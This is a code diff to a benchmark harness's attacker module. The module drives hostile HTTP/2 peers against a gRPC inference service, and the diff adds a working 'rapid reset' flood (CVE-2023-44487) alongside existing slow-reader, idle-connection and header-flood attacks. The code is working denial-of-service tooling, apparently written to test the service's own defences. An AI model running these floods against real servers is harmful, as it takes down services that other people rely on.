@@ -1,7 +1,8 @@
-"""Peers that mean harm, as a process of its own: `python -m bench.attacker KIND HOST:PORT PER_S SECONDS MODEL`.
+"""Peers that mean harm, as a process of its own: `python -m bench.attacker KIND HOST:PORT PER_S SECONDS`.
 
-It prints how often it did what it does as one line of JSON. It takes the lowest priority of the machine: what is to be
-seen is what it does to the service, not that two processes share a processor.
+It reads the body of a request from stdin, and prints how often it did what it does as one line of JSON. It takes the
+lowest priority of the machine: what is to be seen is what it does to the service, not that two processes share a
+processor.
 """
 
 import asyncio
@@ -13,17 +14,29 @@ import time
 from collections.abc import Awaitable, Callable
 from typing import Final
 
-import grpc.aio
 import hpack
-from tritonclient.grpc import service_pb2, service_pb2_grpc
 
-from bench.payload import infer_request
-from bench.stream import Stream
-from bench.wire import ACK, DATA, END_HEADERS, FRAME_BYTES, HEADERS, INITIAL_WINDOW, PREFACE, SETTINGS, frame
+from bench.wire import (
+    ACK,
+    CANCEL,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    FRAME_BYTES,
+    HEADERS,
+    INITIAL_WINDOW,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    frame,
+)
 
 CONTINUATION: Final = 9
 # Eight frames as large as every peer takes: many times what `limits.metadata_bytes` lets through.
 FLOOD_BYTES: Final = 128 * 1024
+# Calls that are taken back, on each connection.
+CALLS: Final = 100
 # Requests on each stream whose answers nobody reads.
 UNREAD: Final = 128
 STEP_S: Final = 0.02
@@ -79,17 +92,47 @@ class Headers:
             writer.transport.abort()
 
 
+class Resets:
+    """Calls opened and taken back at once, CALLS on a connection of its own (CVE-2023-44487, "rapid reset").
+
+    Args:
+        body: a serialized ModelInferRequest.
+    """
+
+    def __init__(self, body: bytes) -> None:
+        self._message = b"\0" + struct.pack("!I", len(body)) + body
+
+    async def __call__(self, address: str) -> None:
+        """Open and take back, and stay until all was taken in or the server closes, GIVE_UP_S at most."""
+        reader, writer = await connected(address)
+        block = hpack.Encoder().encode(fields(address, "ModelInfer"))
+        taken_back = struct.pack("!I", CANCEL)
+        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+        for stream in range(1, 2 * CALLS, 2):
+            opened = frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, self._message)
+            writer.write(opened + frame(RST_STREAM, 0, stream, taken_back))
+        try:
+            async with asyncio.timeout(GIVE_UP_S):
+                writer.write(frame(PING, 0, 0, bytes(8)))
+                answered = frame(PING, ACK, 0, bytes(8))
+                received = b""
+                while answered not in received and (more := await reader.read(65536)):
+                    received = received[-len(answered) :] + more
+        finally:
+            writer.transport.abort()
+
+
 class Idle:
     """Connections that agree on their settings, and are held without a word."""
 
     def __init__(self) -> None:
-        self._held: list[asyncio.StreamWriter] = []
+        self.held: list[asyncio.StreamWriter] = []
 
     async def __call__(self, address: str) -> None:
         """Hold one more."""
         _, writer = await connected(address)
         writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
-        self._held.append(writer)
+        self.held.append(writer)
 
 
 class SlowReaders:
@@ -100,21 +143,25 @@ class SlowReaders:
     """
 
     def __init__(self, body: bytes) -> None:
-        self._held: list[asyncio.StreamWriter] = []
+        self.held: list[asyncio.StreamWriter] = []
         self._message = b"\0" + struct.pack("!I", len(body)) + body
 
     async def __call__(self, address: str) -> None:
         """Hold one more."""
         _, writer = await connected(address)
-        path = "/inference.GRPCInferenceService/ModelStreamInfer"
-        about = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
-        about += [("content-type", "application/grpc"), ("te", "trailers"), ("x-tenant-id", "attacker")]
         closed = struct.pack(">HI", INITIAL_WINDOW, 0)
         writer.write(PREFACE + frame(SETTINGS, 0, 0, closed) + frame(SETTINGS, ACK, 0))
-        writer.write(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(about)))
+        writer.write(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(fields(address, "ModelStreamInfer"))))
         for _ in range(min(UNREAD, 60_000 // len(self._message))):  # what the first window of a stream holds
             writer.write(frame(DATA, 0, 1, self._message))
-        self._held.append(writer)
+        self.held.append(writer)
+
+
+def fields(address: str, method: str) -> list[tuple[str, str]]:
+    """The header of a call."""
+    path = f"/inference.GRPCInferenceService/{method}"
+    about = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
+    return [*about, ("content-type", "application/grpc"), ("te", "trailers"), ("x-tenant-id", "attacker")]
 
 
 async def attack(once: Attack, address: str, per_s: float, seconds: float) -> int:
@@ -128,29 +175,24 @@ async def attack(once: Attack, address: str, per_s: float, seconds: float) -> in
     return done
 
 
-async def prepared(kind: str, address: str, model: str) -> Attack:
-    """An attack by its name: drops, headers, idle or slow-readers."""
-    if kind == "slow-readers":
-        return SlowReaders(await body_of(address, model))
-    kinds: dict[str, Callable[[], Attack]] = {"drops": Drops, "headers": Headers, "idle": Idle}
+def prepared(kind: str, body: bytes) -> Attack:
+    """An attack by its name."""
+    kinds: dict[str, Callable[[], Attack]] = {
+        "drops": Drops,
+        "headers": Headers,
+        "idle": Idle,
+        "resets": lambda: Resets(body),
+        "slow-readers": lambda: SlowReaders(body),
+    }
     return kinds[kind]()
 
 
-async def body_of(address: str, model: str) -> bytes:
-    """A request to the model, one row of random values."""
-    async with grpc.aio.insecure_channel(address) as channel:
-        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
-        metadata = await stub.ModelMetadata(service_pb2.ModelMetadataRequest(name=model), timeout=60)
-    stream = Stream.model_validate({"model": model, "class": "interactive", "tenant": "victim", "outstanding": 1})
-    return infer_request(stream, metadata, seed=1)
-
-
-async def main(kind: str, address: str, per_s: str, seconds: str, model: str) -> None:
+async def main(kind: str, address: str, per_s: str, seconds: str) -> None:
     """Attack, and tell how often."""
     os.nice(19)
-    once = await prepared(kind, address, model)
+    once = prepared(kind, sys.stdin.buffer.read())
     sys.stdout.write(json.dumps({"done": await attack(once, address, float(per_s), float(seconds))}) + "\n")
 
 
 if __name__ == "__main__":
-    asyncio.run(main(*sys.argv[1:6]))
+    asyncio.run(main(*sys.argv[1:5]))
